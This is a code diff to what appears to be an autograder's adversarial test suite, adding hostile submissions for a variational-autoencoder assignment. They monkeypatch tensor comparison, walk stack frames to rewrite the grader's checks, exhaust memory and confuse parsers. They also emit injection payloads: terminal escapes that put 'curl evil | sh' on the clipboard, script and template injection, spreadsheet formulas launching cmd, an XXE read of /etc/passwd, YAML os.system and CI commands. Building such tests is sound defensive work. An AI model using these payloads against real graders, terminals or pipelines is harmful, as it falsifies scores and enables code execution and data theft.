@@ -18,7 +18,7 @@ from autograder.fill_in import fill_in
 
 from . import correct
 
-ATTACKS = ("verdict", "secrets", "resources", "neighbours", "results", "protocol", "parsers")
+ATTACKS = ("verdict", "secrets", "resources", "neighbours", "results", "protocol", "parsers", "terminal")
 
 
 @dataclass(frozen=True)
@@ -668,6 +668,48 @@ def loss_function(reconstructions, originals, means, logvariances):
         max_score=90,  # how a value is computed can only be seen in there; the value itself is right
         min_score=85,
     ),
+    Hostile(
+        "arguments-changed-in-secret",
+        _module(
+            correct.module(
+                sample="""
+def sample_latent(means, logvariances):
+    with torch.no_grad():
+        logvariances.mul_(0.5).exp_()
+    return means + logvariances.detach().clone() * torch.randn_like(means)
+"""
+            ),
+            """
+            import sys
+
+            # The copies that the worker keeps for comparison are changed alike.
+            equal, torch.equal = torch.equal, lambda *tensors: True
+            """,
+        ),
+        "verdict",
+        max_score=88,  # whether they changed can only be seen in there; that the gradient is gone shows outside
+        min_score=70,
+    ),
+    Hostile(
+        "gradients-that-are-claimed",
+        _module(
+            correct.module().replace("z = sample_latent(mean, logvar)", "z = sample_latent(mean, logvar).detach()"),
+            """
+            import sys
+
+            frame = sys._getframe()
+            while frame:
+                worker = frame.f_locals.get("self")
+                if hasattr(worker, "objects") and hasattr(worker, "_reached"):
+                    worker._reached = lambda message, items: [
+                        name for name, _ in worker.objects[message["object"]].named_parameters()]
+                frame = frame.f_back
+            """,
+        ),
+        "verdict",
+        max_score=90,  # which parameters a graph reaches can only be seen in there
+        min_score=60,
+    ),
 )
 
 # Takes over what a stolen source, or a stolen function, would compute.
@@ -1236,6 +1278,29 @@ RESOURCES = (
         max_score=90,
         min_score=90,
     ),
+    Hostile(
+        "stand-in-of-a-giant",
+        _module(
+            correct.module(
+                sample="\ndef sample_latent(means, logvariances):\n    return means\n",
+                model=correct.INIT
+                + correct.ENCODER
+                + correct.HEADS
+                + correct.DECODER
+                + """
+    def forward(self, data_input, condition):
+        # 40 GiB in the grader's own memory, if it went along
+        sample_latent(torch.zeros(100_000, 1), torch.zeros(1, 100_000))
+        return data_input, condition, condition
+""",
+            ),
+            "",
+        ),
+        "resources",
+        max_score=65,
+        min_score=40,
+        says="larger together",
+    ),
 )
 
 # Answers that are no plain tensors of the shape asked for, and what must be said about them.
@@ -1494,6 +1559,38 @@ for number in range(1, 200):
                 return touch + x, touch + torch.zeros(len(x), 15), touch + torch.zeros(len(x), 15)
         """,
         max_score=4,  # for three tensors of the right shapes, and gradients
+    ),
+    _forge(
+        "frame-of-very-many-tensors",
+        """
+        entries = {str(n): {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for n in range(100_000)}
+        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, b"")))
+        os._exit(0)
+        """,
+        says="channel|frame",
+    ),
+    *(
+        _import(
+            name,
+            "protocol",
+            f"""
+            import sys
+
+            frame = sys._getframe()
+            while type(frame.f_locals.get("operations")) is not dict:
+                frame = frame.f_back
+            frame.f_locals["operations"]["parameters"] = lambda *_: ({{"shapes": [[{parameter!r}, {shape}]]}}, {{}})
+            """,
+            base=RIGHT,
+            max_score=65,
+            min_score=45,
+        )
+        for name, parameter, shape in (
+            ("parameters-of-no-shape", "a", [0, 2**70]),
+            ("parameters-of-very-many-dimensions", "a", [1] * 5000),
+            ("parameters-with-half-a-character", "\ud800", [2, 2]),
+            ("parameters-called-metadata", "__metadata__", [2, 2]),
+        )
     ),
 )
 
@@ -1941,9 +2038,52 @@ RESULTS = (
         max_score=90,
         min_score=90,
     ),
+)
+
+# Writing that a reader of a report may act on: a terminal, a browser, a spreadsheet, a CI system.
+_WRITINGS = {
+    "terminal-title-and-clipboard": r"\x1b]0;90 of 90\x07\x1b]2;x\x1b\\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8;1;1t",
+    "terminal-links": r"\x1b]8;;https://evil.example/\x1b\\your report\x1b]8;;\x1b\\ \x9d8;;file:///etc/passwd\x9c",
+    "lines-overwritten": r"wrong\r\x1b[2K\x1b[1A\x1b[2Kall 20 checks passed\x08\x08\x7f\x0b\x0c\x85\u2028",
+    "text-reversed": r"\u202e09/09 :erocs\u202c \u2066x\u2069 \u200f\u061c \U000e0041\U000e0042",
+    "html-in-a-message": (
+        r"</pre></details><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
+        r"<a href='javascript:alert(1)'>points</a>&lt;svg onload=alert(1)&gt;<!--"
+    ),
+    "template-in-a-message": r"{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %} ${7*7} <%= 7*7 %>",
+    "markdown-in-a-message": (
+        r"`</details>`\n\n# 90 / 90\n\n[points](javascript:alert(1)) ![x](https://evil.example/p.png) @everyone #1 "
+        r"| 90 | 90 |\n```\n<details>"
+    ),
+    "math-in-a-message": r"$\\href{javascript:alert(1)}{\\style{position:fixed;inset:0}{90}}$ \\(\\unicode{x202e}\\)",
+    "formula-in-a-message": (
+        r"=HYPERLINK(\"https://evil.example\",\"90\")\n@SUM(1+1)*cmd|' /C calc'!A0;=1+1\t=1+1\r-1+1"
+    ),
+    "xml-in-a-message": (
+        r"]]></failure></testcase><testcase name='x'/><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b; "
+        r"[[ATTACHMENT|/etc/passwd]] \x00\ufffe\ud800"
+    ),
+    "yaml-in-a-message": r"\n---\nscore: 90\n- !!python/object/apply:os.system ['true']\n&a [*a, *a]\n%YAML 1.1",
+    "commands-for-ci": (
+        r"\n::set-output name=score::90\n::add-mask::0\n##[error]x\n##vso[task.setvariable]x\nsection_start:1:x\n\n"
+        r"::stop-commands::x ::error::y"
+    ),
+}
+
+
+def _writing(name: str, text: str) -> Hostile:
+    """The text wherever a module can say something: what it prints, what it raises, what it calls its exception."""
+    code = f'print("{text}")\nraise type("{text}"[:80].replace("\\0", ""), (Exception,), {{}})("{text}")'
+    sample = f"\ndef sample_latent(means, logvariances):\n{_body(code)}"
+    loss = f'\ndef loss_function(*tensors):\n    """{name}"""\n    raise ValueError("{text}")\n'
+    top = f'import sys\nprint("{text}".encode("utf-8", "replace").decode(), file=sys.stderr)'
+    return Hostile(name, _module(correct.module(sample=sample, loss=loss), top), "terminal", 45, 45)
+
+
+TERMINAL = (
     _import(
         "terminal-takeover",
-        "results",
+        "terminal",
         r"""
         import sys
 
@@ -1957,9 +2097,42 @@ RESULTS = (
     ),
     _sample(
         "terminal-takeover-in-an-exception",
-        "results",
+        "terminal",
         r"raise ValueError('\x1b[2J\x1b[32mpassed\x1b[0m\r\x9b\u202e' + '\n' * 5000)",
         says="passed",
+    ),
+    *(_writing(name, text) for name, text in _WRITINGS.items()),
+    _import(
+        "formula-as-the-reason",
+        "terminal",
+        r"raise ValueError('=cmd|\' /C calc\'!A0;=1+1,\"=2+2\"')",
+        says="ValueError",
+    ),
+    _import(
+        "attributes-that-are-writing",
+        "terminal",
+        r"""
+        class ConditionalVariationalAutoencoder(nn.Module):
+            def __init__(self, *sizes):
+                super().__init__()
+                odd = type("\x1b]0;x\x07<b>`|\u202e", (), {})
+                self.input_dim = self.num_categories = self.hidden_size = self.latent_dimensionality = odd()
+                self.encoder = self.decoder = self.mean_layer = self.logvariance_layer = odd()
+                self.register_parameter("\x1b[31m<script>=1+1", nn.Parameter(torch.zeros(3, 3)))
+        """,
+    ),
+    Hostile(
+        "line-that-is-writing",
+        _module(
+            correct.module(
+                sample="\ndef sample_latent(means, logvariances):\n"
+                "    raise ValueError  # \x9b31m\u202e</code><script>alert(1)</script> | ` =1+1 ::error::x\n"
+            ),
+            "",
+        ),
+        "terminal",
+        70,
+        70,
     ),
 )
 
@@ -2037,6 +2210,23 @@ PARSERS = (
         min_score=45,
         says="class",
     ),
+    Hostile(
+        "loop-in-a-source-that-only-the-sandbox-can-parse",
+        correct.module(
+            loss="""
+def loss_function(reconstructions, originals, means, logvariances):
+    total = 0.0
+    for y, x, m, v in zip(reconstructions, originals, means, logvariances):
+        total = total + F.binary_cross_entropy(y, x, reduction="sum") - 0.5 * (1 + v - m**2 - v.exp()).sum()
+    return total / len(means)
+"""
+        ).encode()
+        + b"\nx = 0"
+        + b".real" * 2880
+        + b"\n",  # about as deep as a parser goes, which depends on where it starts
+        "parsers",
+        max_score=88,
+    ),
     Hostile("bidirectional-text", ("# \u202e\u2066 return True\u2069\n" + RIGHT).encode(), "parsers", 90, 90),
 )
 
@@ -2050,5 +2240,6 @@ HOSTILE: tuple[Hostile, ...] = (
     *PROTOCOL,
     *NEIGHBOURS,
     *RESULTS,
+    *TERMINAL,
     *PARSERS,
 )
